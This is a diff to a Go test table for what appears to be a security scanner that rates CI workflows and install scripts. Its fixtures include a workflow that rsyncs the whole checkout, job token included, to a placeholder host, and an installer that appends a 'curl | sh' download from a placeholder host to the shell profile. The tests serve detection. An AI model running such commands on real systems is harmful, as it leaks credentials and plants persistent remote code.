@@ -42,6 +42,9 @@ func TestSeverityByContext(t *testing.T) {
 		{"checkout of an owner another step is held to", ".github/workflows/w.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - if: github.repository_owner == 'ci-helpers'\n        run: echo upstream\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup", 13, "medium ci-remote-config"},
 		{"checkout of an owner a widened test names", ".github/workflows/w.yml", foreignSetup("if: github.repository_owner == 'ci-helpers' || github.event_name == 'push'"), 12, "medium ci-remote-config"},
 		{"checkout of an owner a comment names", ".github/workflows/w.yml", foreignSetup("# github.repository_owner == 'ci-helpers'"), 12, "medium ci-remote-config"},
+		// The checkout sent whole carries .git/config with the job's token:
+		// a site's deploy does so too, so it is read, not feared.
+		{"deploy of the checkout", ".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/", 7, "medium secret-send"},
 		// An installer writes the profile; what it writes decides.
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
